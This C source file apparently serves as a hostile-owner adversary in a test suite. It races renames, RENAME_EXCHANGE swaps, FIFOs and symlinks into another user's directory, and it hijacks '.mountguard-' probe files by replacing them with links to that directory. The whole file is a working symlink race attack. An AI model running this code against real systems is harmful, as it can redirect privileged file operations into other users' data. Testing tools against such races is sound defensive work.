/* SPDX-License-Identifier: MIT */

/*
 * hostile DIR SECRET: the owner of DIR, who changes it as fast as it can while others look at it,
 * until it is killed. SECRET is a directory of somebody else's, with a `file` in it. DIR gets
 *
 *   data, file     a directory and a file, which change their places with a symbolic link into
 *                  SECRET, with each other, and the file with a FIFO
 *   loop, chain    links that lead round in a circle, and now and then to data
 *   stolen-*       what somebody made in DIR/data, by another name
 */

#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define EXCHANGE 2U /* RENAME_EXCHANGE, Linux 3.15 */

static void
exchange(int dir, const char *one, const char *other)
{
	(void)syscall(SYS_renameat2, dir, one, dir, other, EXCHANGE);
}

static void
link_to(int dir, const char *target, const char *name)
{
	(void)unlinkat(dir, name, 0);
	(void)symlinkat(target, dir, name);
}

/* Renames what has the name of a probe, and puts a link into SECRET in its place. */
static void
steal(int dir, const char *secret, unsigned turn)
{
	int data = openat(dir, "data", O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
	DIR *entries = data < 0 ? NULL : fdopendir(data);
	struct dirent *entry;
	char name[64];

	while (entries && (entry = readdir(entries)) != NULL) {
		if (strncmp(entry->d_name, ".mountguard-", 12) != 0)
			continue;
		(void)snprintf(name, sizeof(name), "stolen-%u", turn);
		if (renameat(dirfd(entries), entry->d_name, dir, name) == 0)
			(void)symlinkat(secret, dirfd(entries), entry->d_name);
	}
	if (entries)
		(void)closedir(entries);
}

static int
prepare(int dir, const char *secret)
{
	char file[256];
	int fd;

	(void)snprintf(file, sizeof(file), "%s/file", secret);
	if (mkdirat(dir, "data", 0777) < 0 || mkdirat(dir, "data/inner", 0777) < 0 ||
	    symlinkat(secret, dir, "way") < 0 || symlinkat(file, dir, "leak") < 0 ||
	    mkfifoat(dir, "pipe", 0666) < 0)
		return -1;
	fd = openat(dir, "file", O_WRONLY | O_CREAT | O_CLOEXEC, 0666);
	if (fd < 0 || write(fd, "mine\n", 5) != 5 || close(fd) < 0)
		return -1;
	return linkat(dir, "file", dir, "data/inner/same", 0);
}

int
main(int argc, char **argv)
{
	int dir = argc == 3 ? open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC) : -1;

	if (dir < 0 || prepare(dir, argv[2]) < 0) {
		perror("hostile");
		return 1;
	}
	(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
	for (unsigned turn = 0;; turn++) {
		exchange(dir, "data", "way");
		exchange(dir, "file", "leak");
		link_to(dir, "chain", "loop");
		steal(dir, argv[2], turn);
		exchange(dir, "file", "pipe");
		exchange(dir, "data", "file");
		link_to(dir, turn % 2 ? "loop" : "data", "chain");
		exchange(dir, "data", "file");
		exchange(dir, "file", "pipe");
		exchange(dir, "file", "leak");
		exchange(dir, "data", "way");
		steal(dir, argv[2], turn);
	}
}
